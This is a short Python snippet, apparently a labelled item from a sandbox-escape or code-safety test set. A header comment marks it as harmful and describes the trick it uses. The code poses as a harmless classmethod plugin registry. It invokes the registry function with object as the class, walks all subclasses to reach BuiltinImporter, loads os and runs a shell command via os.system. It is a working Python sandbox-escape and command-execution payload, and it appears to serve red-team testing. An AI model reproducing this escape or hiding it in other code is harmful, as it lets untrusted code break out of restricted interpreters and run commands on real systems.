# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: @classmethod registry using cls.__subclasses__() invoked unbound with object as cls
class Base:
    @classmethod
    def plugins(cls):
        return cls.__subclasses__()


class A(Base):
    pass


for c in Base.plugins.__func__(object):
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
